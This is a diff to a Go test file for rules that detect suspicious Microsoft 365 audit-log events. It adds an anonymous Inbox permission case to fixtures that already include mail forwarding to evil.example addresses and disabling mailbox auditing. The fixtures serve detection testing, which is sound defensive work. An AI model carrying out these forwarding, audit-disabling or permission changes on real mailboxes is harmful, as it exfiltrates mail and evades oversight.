@@ -175,6 +175,7 @@ func TestUALRules(t *testing.T) {
 		"parameters in a line": {`"Operation":"Set-Mailbox","Parameters":"-Identity \"ines@fabrikam.example\" -ForwardingSmtpAddress \"smtp:Out@evil.example\" -DeliverToMailboxAndForward"`, event.ClassForwarding, `"forward":["out@evil.example"]`, "ines@fabrikam.example"},
 		"audit off":            {`"Operation":"Set-Mailbox","Parameters":[{"Name":"AuditEnabled","Value":"False"}]`, event.ClassAuditChange, `"AuditEnabled":"False"`, ""},
 		"plain Set-Mailbox":    {`"Operation":"Set-Mailbox","Parameters":[{"Name":"Force","Value":"True"}]`, event.ClassAdmin, `"Force":"True"`, ""},
+		"folder permission":    {`"Operation":"ModifyFolderPermissions","RecordType":2,"MailboxOwnerUPN":"ines@fabrikam.example","Item":{"ParentFolder":{"MemberRights":"ReadAny, Visible","MemberUpn":"Anonymous","Path":"\\Inbox"}}`, event.ClassMailboxPermission, `"folder":"\\Inbox"`, "ines@fabrikam.example"},
 		"Outlook's rule":       {`"Operation":"UpdateInboxRules","MailboxOwnerUPN":"ines@fabrikam.example","OperationProperties":[{"Name":"RuleName"},{"Name":"RuleActions","Value":"[{\"ActionType\":\"Forward\",\"Recipients\":[\"X@evil.example\"]}]"}]`, event.ClassInboxRule, `"forward":["x@evil.example"]`, "ines@fabrikam.example"},
 	} {
 		e, _, err := ualOne(t, `{`+head+`,`+c.text+`}`, false)
